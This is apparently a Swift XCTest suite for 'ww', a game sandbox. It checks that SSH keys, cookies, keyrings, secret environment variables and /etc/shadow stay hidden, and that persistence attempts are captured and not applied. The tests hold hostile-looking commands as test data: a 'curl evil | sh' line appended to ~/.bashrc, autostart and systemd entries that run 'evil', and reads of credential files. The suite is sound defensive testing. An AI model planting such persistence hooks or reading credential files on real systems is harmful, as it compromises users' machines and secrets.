import XCTest

/// A game inside ww cannot read the player's secrets or plant anything that runs outside.
final class SecretsTests: XCTestCase {
    let sb = Sandbox.shared

    func testPlantedSecretsAreReadableWithoutTheSandbox() throws {
        // The control: the same reads succeed outside ww, so the tests below can fail.
        let home = try sb.makeHome()
        let r = try sb.asUser("/bin/cat", [home.sshKey, home.cookiesFile], env: ["PATH": "/usr/bin:/bin"], cwd: home.path)
        XCTAssertEqual(r.status, 0)
        XCTAssertTrue(r.stdout.contains("PLANTED-SECRET-KEY"))
        XCTAssertTrue(r.stdout.contains("PLANTED-COOKIES"))
    }

    func testSSHKeyAndCookiesAreNotReadableInVirtualHome() throws {
        let home = try sb.makeHome()
        let r = try sb.ww(["--", "cat", home.sshKey, home.cookiesFile], home: home)
        XCTAssertNotEqual(r.status, 0, r.output)
        XCTAssertFalse(r.output.contains("PLANTED"), r.output)
    }

    func testSecretsStayHiddenEvenWithTheRealHomeVisible() throws {
        // home = host-ro shows the real home: the always-hidden list must still cover the secrets.
        let home = try sb.makeHome()
        let listing = try sb.ww(["--home", "host-ro", "--", "sh", "-c", "cat ~/.bashrc; ls -a ~/.ssh; cat ~/.ssh/id_rsa; cat \(home.cookiesFile); cat ~/.local/share/keyrings/login.keyring"], home: home)
        XCTAssertTrue(listing.stdout.contains("PLANTED-BASHRC"), "the real home should be visible: \(listing.output)")
        XCTAssertFalse(listing.output.contains("PLANTED-SECRET-KEY"), listing.output)
        XCTAssertFalse(listing.output.contains("PLANTED-COOKIES"), listing.output)
        XCTAssertFalse(listing.output.contains("PLANTED-KEYRING"), listing.output)
    }

    /// The real home's persistence targets are session copies: the write succeeds into the copy, is a
    /// `persistence_attempt` with what was written, and the real file is untouched (a virtual home's own
    /// copies are captured and put back instead: PersistenceTests).
    func testPersistenceTargetsInTheRealHomeAreCapturedCopies() throws {
        let home = try sb.makeHome()
        let before = home.snapshot()
        for mode in ["host-ro", "host"] {
            let log = sb.logPath()
            let r = try sb.ww(["--log", log, "--home", mode, "--", "sh", "-c", """
                echo 'curl evil | sh' >> ~/.bashrc && echo BASHRC-WRITTEN
                mkdir -p ~/.config/autostart 2>/dev/null
                printf '[Desktop Entry]\\nExec=evil --autostart\\n' > ~/.config/autostart/x.desktop && echo AUTOSTART-WRITTEN
                mkdir -p ~/.config/systemd/user 2>/dev/null; printf '[Service]\\nExecStart=evil\\n' > ~/.config/systemd/user/evil.service && echo UNIT-WRITTEN
                exit 0
                """], home: home)
            XCTAssertEqual(r.status, 0, "\(mode): \(r.output)")
            XCTAssertTrue(r.stdout.contains("BASHRC-WRITTEN"), "\(mode): the session copy is writable: \(r.output)")
            XCTAssertTrue(r.stdout.contains("AUTOSTART-WRITTEN"), "\(mode): \(r.output)")
            let attempts = sb.events(log).filter { $0["kind"] as? String == "persistence_attempt" }
            func event(_ rel: String) -> [String: Any]? { attempts.first { $0["target"] as? String == home.path + "/" + rel } }
            let bashrc = try XCTUnwrap(event(".bashrc"), "\(mode): \(attempts)")
            XCTAssertEqual(bashrc["command"] as? String, "curl evil | sh", "\(mode)")
            XCTAssertEqual(bashrc["removed"] as? Bool, true, "\(mode)")
            XCTAssertEqual(event(".config/autostart/x.desktop")?["command"] as? String, "Exec=evil --autostart", "\(mode): \(attempts)")
            let capture = try XCTUnwrap(bashrc["capture"] as? String)
            let shown = try sb.ww(["events", "--capture", capture], home: home)
            XCTAssertEqual(shown.stdout, FakeHome.bashrc + "curl evil | sh\n", "\(mode): \(shown.output)")
            if mode == "host" {
                // A missing folder target in a writable home is an empty session copy too.
                XCTAssertTrue(r.stdout.contains("UNIT-WRITTEN"), r.output)
                XCTAssertEqual(event(".config/systemd/user/evil.service")?["command"] as? String, "ExecStart=evil", "\(attempts)")
                XCTAssertEqual(attempts.count, 3, "\(attempts)")
            } else {
                // A read-only home: the missing folder cannot be created at all (EROFS, not seen).
                XCTAssertFalse(r.stdout.contains("UNIT-WRITTEN"), r.output)
                XCTAssertEqual(attempts.count, 2, "\(attempts)")
            }
            XCTAssertTrue(r.stderr.contains("persistence attempt"), r.stderr)
            // The next session sees the real files again.
            let again = try sb.ww(["--home", mode, "--", "sh", "-c", "cat ~/.bashrc; ls ~/.config/autostart"], home: home)
            XCTAssertEqual(again.stdout, FakeHome.bashrc, "\(mode): \(again.output)")
        }
        XCTAssertEqual(home.snapshot(), before, "the real files changed")
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: home.autostart), [])
        XCTAssertFalse(FileManager.default.fileExists(atPath: home.path + "/.config/systemd/user/evil.service"))
    }

    func testUinputIsAbsent() throws {
        let home = try sb.makeHome()
        let r = try sb.ww(["--", "sh", "-c", "ls /dev; test -e /dev/uinput && echo UINPUT-PRESENT; echo \"INPUT-NODES:$(ls -A /dev/input)\"; exit 0"], home: home)
        XCTAssertEqual(r.status, 0, r.output)
        XCTAssertFalse(r.stdout.contains("UINPUT-PRESENT"), r.output)
        // /dev/input is there for controllers plugged in later, and holds none of the host's nodes here.
        XCTAssertTrue(r.stdout.contains("INPUT-NODES:\n"), r.output)
        XCTAssertTrue(r.stdout.contains("null"), r.output)
    }

    func testSecretEnvironmentIsRemovedAndPreloadKept() throws {
        let home = try sb.makeHome()
        let r = try sb.ww(["--", "sh", "-c", "echo SSH=${SSH_AUTH_SOCK-unset} AWS=${AWS_SECRET_ACCESS_KEY-unset} GH=${GITHUB_TOKEN-unset} BUS=${DBUS_SESSION_BUS_ADDRESS-unset} PRE=${LD_PRELOAD-unset} WDO=$WINEDLLOVERRIDES"], home: home,
                          env: ["SSH_AUTH_SOCK": "/tmp/agent.sock", "AWS_SECRET_ACCESS_KEY": "AKIA-PLANTED", "GITHUB_TOKEN": "ghp_PLANTED",
                                "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1/bus", "LD_PRELOAD": "", "WINEDLLOVERRIDES": "d3d11=n"])
        XCTAssertEqual(r.status, 0, r.output)
        XCTAssertTrue(r.stdout.contains("SSH=unset AWS=unset GH=unset BUS=unset"), r.output)
        XCTAssertTrue(r.stdout.contains("WDO=d3d11=n;winemenubuilder.exe=d"), r.output)
        XCTAssertFalse(r.output.contains("PLANTED"), r.output)
    }

    func testNoNetworkByDefault() throws {
        let home = try sb.makeHome()
        let r = try sb.ww(["--", "sh", "-c", "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '"], home: home)
        XCTAssertEqual(r.status, 0, r.output)
        XCTAssertEqual(r.stdout.split(separator: "\n").map(String.init), ["lo"], r.output)
    }
}

/// System secrets: /etc/shadow is hidden even from a player who runs ww as root (who owns it).
final class SystemSecretsTests: XCTestCase {
    func testShadowIsHiddenEvenAsRoot() throws {
        guard getuid() == 0 else { throw Skip.allowed(.needsRootForSetUp, "only meaningful as root: an ordinary user cannot read /etc/shadow anyway") }
        let outside = try Sandbox.run("/bin/cat", ["/etc/shadow"])
        XCTAssertTrue(outside.stdout.contains("root:"), "control: root reads /etc/shadow outside ww")
        let sb = Sandbox.shared
        let home = "/tmp/ww-it-root-home-\(getpid())"
        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
        let r = try Sandbox.run("/usr/bin/env", ["-i", "HOME=\(home)", "PATH=/usr/bin:/bin", "WW_PROFILE_PATH=\(sb.profilesDir)", sb.wwBinary, "--", "cat", "/etc/shadow"], cwd: home)
        XCTAssertFalse(r.stdout.contains("root:"), r.output)
    }
}
